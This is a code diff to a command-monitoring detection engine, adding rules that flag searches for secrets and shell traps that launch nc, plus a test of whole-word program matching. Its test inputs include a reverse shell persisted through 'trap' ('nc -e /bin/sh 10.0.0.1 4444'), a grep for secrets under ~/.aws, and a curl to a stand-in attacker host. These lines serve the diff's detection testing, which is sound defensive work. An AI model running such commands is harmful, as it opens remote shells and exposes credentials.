@@ -162,6 +162,17 @@ PREFILTER_RULES = textwrap.dedent("""
       category: supervision_evasion
       severity: high
       condition: cmd.path regex "^(/tmp|/dev/shm)/(sshd|crond)$"
+    - rule: secret_grep
+      title: secrets searched for
+      category: credential_access
+      severity: medium
+      condition: cmd.name in (grep, rg) and cmd.args icontains secret
+      prefilter: [secret]
+    - rule: trap_runs_nc
+      title: trap runs nc
+      category: persistence
+      severity: high
+      condition: cmd.via = trap and cmd.name = nc
 """)
 
 
@@ -188,6 +199,17 @@ def test_a_rule_needs_all_its_literals_before_a_command_is_read():
     assert _rules(eng, "sudo -nl") == _rules(eng, "sudo --list") == ["sudo_list"]  # -l in a cluster too
     assert _rules(eng, "curl -s https://evil.example/x") == ["curl_to_evil"]
     assert _rules(eng, "/tmp/sshd -D") == ["daemon_in_tmp"]
+
+
+def test_program_names_must_stand_as_words_before_a_command_is_read():
+    eng = prefilter_engine()
+    assert _rules(eng, "argon2 secret_salt -id < in") == []      # `rg` inside argon2 is no program
+    assert _rules(eng, "nc -zv db.internal 5432") == []           # nc, but no trap to reach it through
+    assert eng.parsed == 0
+    assert _rules(eng, "rg -i secret ~/.aws") == ["secret_grep"]
+    assert _rules(eng, "trap 'nc -e /bin/sh 10.0.0.1 4444' EXIT") == ["trap_runs_nc"]
+    # the inner command does not hold `trap`: per-command scoping must still run the rule on it
+    assert _rules(eng, "trap \"/bin/nc 10.0.0.1 4444\" TERM; sleep 9") == ["trap_runs_nc"]
 
 
 def test_words_the_shell_builds_are_still_read():
